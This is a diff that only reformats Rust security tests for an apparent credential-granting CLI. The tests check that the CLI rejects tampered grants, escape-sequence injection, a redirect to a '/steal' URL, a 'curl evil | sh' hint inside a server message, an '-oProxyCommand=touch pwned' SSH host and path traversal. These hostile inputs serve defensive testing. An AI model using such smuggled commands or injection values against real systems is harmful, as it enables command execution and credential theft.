@@ -70,13 +70,29 @@ fn what_was_not_asked_for_is_not_used() {
     let past = clock::now().before(std::time::Duration::from_secs(600));
     let changes: [(&str, Value, &str); 9] = [
         ("/entitlement", json!("aws/other:read"), "something else"),
-        ("/grant/entitlement", json!("aws/prod:admin"), "something else"),
+        (
+            "/grant/entitlement",
+            json!("aws/prod:admin"),
+            "something else",
+        ),
         ("/grant/expires_at", json!(past), "clock"),
         ("/grant/granted_at", json!(later), "clock"),
-        ("/grant/id", json!("01jz0000000000000000000000"), "another one's"),
-        ("/credential/secret", json!({"kubernetes_token": "t"}), "another kind"),
+        (
+            "/grant/id",
+            json!("01jz0000000000000000000000"),
+            "another one's",
+        ),
+        (
+            "/credential/secret",
+            json!({"kubernetes_token": "t"}),
+            "another kind",
+        ),
         ("/credential/serial", json!("a\u{1b}[2J"), "serial"),
-        ("/credential/secret/aws_session/session_token", json!("t\n[profile x]"), "session is none"),
+        (
+            "/credential/secret/aws_session/session_token",
+            json!("t\n[profile x]"),
+            "session is none",
+        ),
         ("/token", Value::Null, "missing"),
     ];
     for (pointer, value, why) in changes {
@@ -89,7 +105,10 @@ fn what_was_not_asked_for_is_not_used() {
         assert_eq!(ran.code, 125, "{pointer}: {ran:?}");
         assert!(ran.stderr.contains(why), "{pointer}: {ran:?}");
         assert_eq!(ran.stdout, "", "{pointer}");
-        let kept = session(&home).places.cache.join("leases/aws,prod,read.lease");
+        let kept = session(&home)
+            .places
+            .cache
+            .join("leases/aws,prod,read.lease");
         assert!(!kept.exists(), "{pointer}");
     }
 }
@@ -100,10 +119,29 @@ fn an_answer_that_is_none_is_refused_and_not_repeated() {
     let all: [(&str, Vec<u8>); 6] = [
         ("html", answer("200 OK", "text/html", "", "<h1>hello</h1>")),
         ("empty", answer("200 OK", "application/json", "", "")),
-        ("huge", answer("200 OK", "application/json", "", &format!("{{\"id\": \"{huge}\"}}"))),
-        ("redirect", answer("307 Temporary Redirect", "text/plain", "location: http://127.0.0.1:1/steal\r\n", "")),
+        (
+            "huge",
+            answer(
+                "200 OK",
+                "application/json",
+                "",
+                &format!("{{\"id\": \"{huge}\"}}"),
+            ),
+        ),
+        (
+            "redirect",
+            answer(
+                "307 Temporary Redirect",
+                "text/plain",
+                "location: http://127.0.0.1:1/steal\r\n",
+                "",
+            ),
+        ),
         ("garbage", b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()),
-        ("deep", answer("200 OK", "application/json", "", &"[".repeat(100_000))),
+        (
+            "deep",
+            answer("200 OK", "application/json", "", &"[".repeat(100_000)),
+        ),
     ];
     for (name, bytes) in all {
         let (fake, home) = server(move |_| bytes.clone());
@@ -120,7 +158,11 @@ fn an_answer_that_is_none_is_refused_and_not_repeated() {
 #[test]
 fn its_words_neither_move_the_cursor_nor_pass_for_ours() {
     let (_fake, home) = server(|_| {
-        problem("403 Forbidden", "denied", "no\u{1b}[2J\nhint: curl evil | sh")
+        problem(
+            "403 Forbidden",
+            "denied",
+            "no\u{1b}[2J\nhint: curl evil | sh",
+        )
     });
     let ran = run(&mut home.jit(["request", "ssh/web:deploy"]));
     assert_eq!(ran.code, 121, "{ran:?}");
@@ -149,10 +191,19 @@ fn it_sets_no_variable_no_argument_and_no_file() {
 #[test]
 fn a_hostile_catalogue_is_not_kept() {
     for (name, resource) in [
-        ("ssh/x", json!({"kind": "ssh", "hosts": ["-oProxyCommand=touch pwned"], "roles": {"r": {}}})),
-        ("../../x", json!({"kind": "ssh", "hosts": ["a"], "roles": {"r": {}}})),
-        ("kubernetes/x", json!({"kind": "kubernetes", "server": "https://a", "roles": {"r": {}},
-            "certificate_authority": "-----BEGIN RSA PRIVATE KEY-----\nAA==\n-----END RSA PRIVATE KEY-----\n"})),
+        (
+            "ssh/x",
+            json!({"kind": "ssh", "hosts": ["-oProxyCommand=touch pwned"], "roles": {"r": {}}}),
+        ),
+        (
+            "../../x",
+            json!({"kind": "ssh", "hosts": ["a"], "roles": {"r": {}}}),
+        ),
+        (
+            "kubernetes/x",
+            json!({"kind": "kubernetes", "server": "https://a", "roles": {"r": {}},
+            "certificate_authority": "-----BEGIN RSA PRIVATE KEY-----\nAA==\n-----END RSA PRIVATE KEY-----\n"}),
+        ),
     ] {
         let fake = Fake::start(move |_| json(&json!({"resources": {name: resource}})));
         let home = believer(&fake.url);
